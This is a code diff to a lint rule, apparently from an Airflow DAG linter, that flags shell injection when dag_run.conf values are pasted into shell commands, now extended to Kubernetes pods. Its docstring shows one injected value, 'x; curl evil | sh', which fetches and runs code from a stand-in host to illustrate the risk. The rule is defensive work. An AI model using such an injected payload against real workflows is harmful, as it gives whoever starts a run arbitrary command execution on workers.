@@ -8,15 +8,22 @@ from typing import TYPE_CHECKING
 
 from dagmig.diagnostics import Severity
 from dagmig.graph.jinja import BadTemplate, tree
-from dagmig.graph.model import Workflow
+from dagmig.graph.model import Task, Workflow
 from dagmig.lint.operators import class_name
 from dagmig.lint.rule import Finding, dag_rule
 from dagmig.lint.source import Source
+from dagmig.lint.templated import texts
 
 if TYPE_CHECKING:
     from jinja2 import nodes
 
-COMMANDS = {"BashOperator": "bash_command", "SSHOperator": "command", "BashSensor": "bash_command"}
+COMMANDS = {
+    "BashOperator": ("bash_command",),
+    "SSHOperator": ("command",),
+    "BashSensor": ("bash_command",),
+    "KubernetesPodOperator": ("cmds", "arguments"),
+}
+SHELL = re.compile(r"(.*/)?(ba|da|k|z)?sh -\w*c\w*")  # the first two words
 HARMLESS = frozenset({"int", "float", "length", "count", "abs", "round"})  # filters that give numbers
 CONF = re.compile(r"\bdag_run\s*\.\s*conf\b|\bdag_run\[.conf.\]")
 
@@ -26,7 +33,8 @@ def shell_injection_dag_run_conf(workflow: Workflow, source: Source) -> Iterator
     """A shell command is put together from what somebody gives when starting the run.
 
     Who may start the DAG may then run any command on the worker: `{"name": "x; curl evil | sh"}`. Airflow's
-    documentation of the operator warns of it. A value turned into a number is left alone.
+    documentation of the operator warns of it. A value turned into a number is left alone, and so are the
+    arguments of a pod that is no shell. `params` are left alone as well: a DAG may say what they hold.
     See https://airflow.apache.org/docs/apache-airflow-providers-standard/stable/operators/bash.html
 
     ```python bad
@@ -48,13 +56,20 @@ def shell_injection_dag_run_conf(workflow: Workflow, source: Source) -> Iterator
     Instead: Hand it over by `env`, and quote the variable in the command.
     """
     for task in workflow.tasks.values():
-        argument = COMMANDS.get(class_name(task))
-        if argument is None or not task.call.operator.startswith("airflow."):
+        arguments = COMMANDS.get(class_name(task), ())
+        if not task.call.operator.startswith("airflow.") or ("cmds" in arguments and not _is_shell(task)):
             continue
         for name, text in source.templates(task):
-            if name == argument and CONF.search(text) and _is_pasted(text):
-                span = source.syntax.argument_span(task.span, argument)
+            if name in arguments and CONF.search(text) and _is_pasted(text):
+                span = source.syntax.argument_span(task.span, name)
                 yield Finding(f"who starts the run may run any command by way of `{task.id}`", span)
+
+
+def _is_shell(pod: Task) -> bool:
+    """Whether the command of a pod begins with a shell that is given its command as a text."""
+    given = [value for name in ("cmds", "arguments") if (value := pod.argument(name)) is not None]
+    words = [text for value in given for text in texts(value)]
+    return SHELL.fullmatch(" ".join(words[:2])) is not None
 
 
 def _is_pasted(text: str) -> bool:
